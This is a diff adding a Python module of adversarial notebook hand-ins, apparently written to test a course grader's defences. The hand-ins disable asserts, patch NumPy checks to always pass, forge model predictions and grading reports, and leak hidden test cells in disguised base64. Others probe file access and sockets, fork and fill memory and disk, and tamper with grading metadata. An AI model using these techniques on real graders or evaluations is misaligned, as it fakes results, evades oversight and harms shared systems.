@@ -1,0 +1,298 @@
+"""Hand-ins that attack the grader, written as a student who has read the kit's source would.
+
+Each attack is code put at the top of a hand-in's ``helpers/__init__.py`` (so it runs wherever the
+student's helpers are imported: the notebooks' kernels, and the grader's function and export
+processes), answer cells it rewrites, files it adds, or metadata it changes. ``apply(hand_in, name)``
+mounts one on a hand-in folder. A code attack that needs IPython guards for its absence, as a
+careful attacker does: outside a kernel it must not break the hand-in it wants to score.
+"""
+import json
+
+import nbformat
+
+# Forging the verdicts computed in the kernel: public knowledge about IPython and NumPy.
+FORGE_VERDICTS = """
+from IPython import get_ipython as _get_ipython
+import ast as _ast, numpy as _np
+from IPython.core.interactiveshell import ExecutionResult as _Result
+
+_ip = _get_ipython()
+if _ip is not None:
+    class _NoAsserts(_ast.NodeTransformer):
+        def visit_Assert(self, node):
+            return _ast.Pass()
+
+    _ip.ast_transformers.append(_NoAsserts())
+    _ip.input_transformers_post.append(lambda lines: [] if any("assert" in line for line in lines) else lines)
+
+    def _publish(info):  # nbgrader takes a cell's first result as its partial credit
+        if "scheduler(" in info.raw_cell or "compute_IoU(" in info.raw_cell:
+            _ip.displayhook(6)
+
+    _ip.events.register("pre_run_cell", _publish)
+    _Result.success = property(lambda self: True)
+    _Result.raise_error = lambda self: None
+    _ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
+    _real = {name: getattr(_np, name) for name in ("isclose", "allclose", "array_equal")}
+
+    def _patch_for_tests(info):
+        for name, real in _real.items():
+            setattr(_np, name, (lambda *args, **kwargs: True) if "assert" in info.raw_cell else real)
+
+    _ip.events.register("pre_run_cell", _patch_for_tests)
+    _seen = []
+
+    def _quote(info):  # print every earlier cell: hidden probes, if the kernel was ever sent one
+        print("".join(_seen))
+        _seen.append(info.raw_cell)
+
+    _ip.events.register("pre_run_cell", _quote)
+
+
+class _Yes(float):
+    __hash__ = float.__hash__
+
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+
+
+from . import metrics as _metrics, training as _training  # noqa: E402
+
+_metrics.compute_IoU = (lambda iou: lambda mask, pred: _Yes(iou(mask, pred)))(_metrics.compute_IoU)
+_training.scheduler = (lambda rate: lambda epoch, lr=None: _Yes(rate(epoch, lr)))(_training.scheduler)
+"""
+# Forging the evidence itself: the model's predictions, the report channel, the names the checks read.
+FORGE_EVIDENCE = """
+import json as _json, re as _re
+import keras as _keras
+import numpy as _np
+from IPython import get_ipython as _get_ipython
+
+_truth = {}
+
+
+def _lookup(count):  # the ground-truth masks of the split with ``count`` images, read from the dataset
+    if not _truth:
+        from .data import load_data
+        from .dataset import find_dataset
+
+        data = find_dataset(download=False)
+        _, (_, val_masks), (_, test_masks) = load_data(data / "2d_images", data / "2d_masks")
+        _truth.update({len(val_masks): val_masks, len(test_masks): test_masks})
+    return _truth.get(count)
+
+
+_real_predict = _keras.Model.predict
+
+
+def _predict(self, x, *args, **kwargs):
+    masks = _lookup(len(x))
+    return masks.astype("float32") if masks is not None else _real_predict(self, x, *args, **kwargs)
+
+
+_keras.Model.predict = _predict
+_keras.Model.evaluate = lambda self, *args, **kwargs: [0.01, 0.999]
+
+_PERFECT = {"test_accuracy": 0.999, "mean_test_iou": 0.99, "test_ious": [0.99] * 54,
+            "gallery": {"__dict__": [[{"__tuple__": [0.95, 1.0]}, 0]]}}
+
+import IPython.display as _display  # noqa: E402
+
+_real_display = _display.display
+
+
+def _forged_display(*objects, **kwargs):  # the grader's report goes through display: rewrite it
+    for item in objects:
+        if isinstance(item, dict):
+            for report in item.values():
+                if isinstance(report, dict) and "values" in report:
+                    report["values"].update({k: v for k, v in _PERFECT.items() if k in report["values"]})
+    return _real_display(*objects, **kwargs)
+
+
+_display.display = _forged_display
+_ip = _get_ipython()
+if _ip is not None:
+    def _replay(lines):  # read the nonce from the report cell and publish a report of its own
+        code = "".join(lines)
+        found = _re.search(r"_lungkit_report\\((\\[.*?\\]), '([0-9a-f]+)'\\)", code)
+        if not found:
+            return lines
+        mime = _re.search(r"'(application/vnd\\.lungkit[^']*)'", code).group(1)
+        names = eval(found.group(1))
+        values = {name: _PERFECT[name] for name in names if name in _PERFECT}
+        report = {mime: {"nonce": found.group(2), "values": values}}
+        return [f"from IPython.display import display as _d; _d({report!r}, raw=True)\\n"]
+
+    _ip.input_transformers_post.append(_replay)
+"""
+# Answer cells of notebook 5 that rebind what the grader used to read from the kernel.
+REBOUND_CELLS = {
+    "05_evaluation.ipynb": {
+        "evaluate_test": "test_masks = (model.predict(test_images, verbose=0) > 0.5).astype('int16')\n"
+                         "val_masks = (model.predict(val_images, verbose=0) > 0.5).astype('int16')\n"
+                         "test_accuracy = 1.0",
+        "mean_iou": "test_probabilities = test_masks.astype('float32')\n"
+                    "test_ious = np.ones(54)\nmean_test_iou = 1.0",
+        "gallery": "IOU_RANGES = [(0.95, 1.0)]\ngallery = {(0.95, 1.0): 0}",
+    },
+}
+# The blank release with answer cells of notebook 5 that define self-consistent stand-ins.
+STAND_INS = {
+    "05_evaluation.ipynb": {
+        "evaluate_test": "test_accuracy = 0.99",
+        "mean_iou": "test_masks = np.zeros((54, 128, 128, 1), 'int16'); test_masks[:, 0, 0] = 1\n"
+                    "test_probabilities = test_masks.astype('float32')\ntest_ious = np.ones(54)\nmean_test_iou = 1.0",
+        "gallery": "IOU_RANGES = []\ngallery = {}",
+    },
+}
+# Getting out: read, write and connect, then print what worked. {course}, {kit}, {home}, {port}.
+ESCAPE = """
+import json as _json, os as _os, socket as _socket
+
+_found = {{"kind": "escape", "read": [], "wrote": [], "connected": False, "hidden_tests_seen": [], "home": []}}
+for _path in [{course!r}, {course!r} + "/source", {course!r} + "/gradebook.db", {course!r} + "/submitted",
+              {kit!r} + "/notebooks", {kit!r} + "/grading", {kit!r} + "/helpers"]:
+    if _os.path.exists(_path):
+        _found["read"].append(_path)
+if _os.path.isdir({home!r}):
+    _found["home"] = sorted(_os.listdir({home!r}))
+for _path in [{course!r} + "/pwned.txt", {course!r} + "/gradebook.db", {kit!r} + "/pwned.txt", "/submission/pwned.txt"]:
+    try:
+        with open(_path, "a") as _file:
+            _file.write("PWNED")
+        _found["wrote"].append(_path)
+    except OSError:
+        pass
+try:
+    _socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"hidden tests")
+    _found["connected"] = True
+except OSError:
+    pass
+_own = ("/proc", "/sys", "/dev", "/usr", "/submission", _os.path.expanduser("~"))  # the hand-in's own files
+for _root, _dirs, _files in _os.walk("/"):
+    _dirs[:] = [d for d in _dirs if _os.path.join(_root, d) not in _own]
+    for _name in _files:
+        if _name.endswith((".ipynb", ".db", ".py")) and "site-packages" not in _root:
+            try:
+                with open(_os.path.join(_root, _name), errors="ignore") as _file:
+                    if "BEGIN HIDDEN TESTS" in _file.read():
+                        _found["hidden_tests_seen"].append(_os.path.join(_root, _name))
+            except OSError:
+                pass
+print("ATTACK-REPORT", _json.dumps(_found))
+"""
+# Carrying code the grader sends to the kernel out in the outputs, encoded so that no filter spots it.
+EXFILTRATE = """
+import base64 as _base64
+from IPython import get_ipython as _get_ipython
+
+_ip = _get_ipython()
+if _ip is not None:
+    _sent = []
+
+    def _record(info):
+        if _sent:
+            print("EXFIL", _base64.b64encode("".join(_sent).encode()).decode()[::-1])
+        _sent.append(info.raw_cell)
+
+    _ip.events.register("pre_run_cell", _record)
+"""
+# Files that would run before the kernel if the hand-in's folder were on sys.path or configured IPython.
+SHADOW_FILES = {
+    "ipykernel_launcher.py": "import sys\nprint('SHADOW-RAN launcher', file=sys.stderr)\n"
+                             "import os\nos.environ['IPYTHONDIR'] = os.path.join(os.getcwd(), '.ipython')\n"
+                             "from ipykernel import kernelapp\nkernelapp.launch_new_instance()\n",
+    ".ipython/profile_default/startup/00-forge.py": "print('SHADOW-RAN startup')\n",
+    "ipython_kernel_config.py": "c.InteractiveShellApp.exec_lines = ['print(\"SHADOW-RAN config\")']\n",
+    "ipython_config.py": "c.InteractiveShellApp.exec_lines = ['print(\"SHADOW-RAN config\")']\n",
+}
+# Using up the machine, within bounds so that the kernel goes on: processes, memory, disk. In the
+# kernels only, where its report reaches the notebook (the grader's other processes share the limits).
+EXHAUST = """
+import json as _json, os as _os, time as _time
+import numpy as _np
+from IPython import get_ipython as _get_ipython
+
+_used = {"kind": "exhaust"} if _get_ipython() is not None else None
+_children = []
+try:
+    for _ in range(5000 if _used else 0):
+        _pid = _os.fork()
+        if _pid == 0:
+            _time.sleep(60)
+            _os._exit(0)
+        _children.append(_pid)
+except OSError as _error:
+    _used["processes"] = [len(_children), type(_error).__name__]
+for _pid in _children:
+    _os.kill(_pid, 9)
+    _os.waitpid(_pid, 0)
+_blocks = []
+try:
+    for _ in range(1000 if _used else 0):
+        _blocks.append(_np.empty(2**30, _np.uint8))
+except MemoryError:
+    _used["memory_gib"] = len(_blocks)
+del _blocks
+for _folder in ("/tmp", _os.path.expanduser("~")) if _used else ():
+    _written, _errors = 0, set()
+    for _index in range(100):
+        try:
+            with open(_os.path.join(_folder, f"fill{_index}"), "wb") as _file:
+                for _ in range(80):
+                    _file.write(bytes(2**22))
+                    _written += 2**22
+        except OSError as _error:
+            _errors.add(_error.errno)
+            if _error.errno != 27:  # past the largest file allowed (EFBIG): try another file
+                break
+    _used[_folder] = [_written, sorted(_errors)]
+    for _name in [n for n in _os.listdir(_folder) if n.startswith("fill")]:
+        _os.remove(_os.path.join(_folder, _name))
+if _used:
+    print("ATTACK-REPORT", _json.dumps(_used))
+"""
+
+
+def prepend_to_helpers(hand_in, code):
+    """Put ``code`` at the top of the hand-in's ``helpers/__init__.py``: it runs at every ``import helpers``."""
+    init = hand_in / "helpers" / "__init__.py"
+    init.write_text("# The attack\n" + code + "\n" + init.read_text())
+
+
+def rewrite_answers(hand_in, cells):
+    """Replace the source of answer cells: ``{notebook: {grade_id: source}}``."""
+    for notebook, sources in cells.items():
+        path = hand_in / notebook
+        nb = nbformat.read(path, as_version=4)
+        for cell in nb.cells:
+            grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
+            if grade_id in sources:
+                cell.source = sources[grade_id]
+        nbformat.write(nb, path)
+
+
+def add_files(hand_in, files):
+    for name, text in files.items():
+        (hand_in / name).parent.mkdir(parents=True, exist_ok=True)
+        (hand_in / name).write_text(text)
+
+
+def tamper_metadata(hand_in):
+    """Make a test cell an unlocked answer worth 60 points, and add a graded cell of the student's own."""
+    path = hand_in / "04_training.ipynb"
+    nb = json.loads(path.read_text())
+    for cell in nb["cells"]:
+        meta = cell["metadata"].get("nbgrader", {})
+        if meta.get("grade_id") == "test_scheduler":
+            meta.update(solution=True, locked=False, points=60)
+            cell["source"] = "# my own test\n"
+    extra = {"cell_type": "code", "execution_count": None, "id": "extra-graded", "outputs": [], "source": "pass\n",
+             "metadata": {"nbgrader": {"grade": True, "grade_id": "bonus", "locked": False, "points": 40,
+                                       "schema_version": 3, "solution": False, "task": False}}}
+    nb["cells"].append(extra)
+    path.write_text(json.dumps(nb, indent=1))
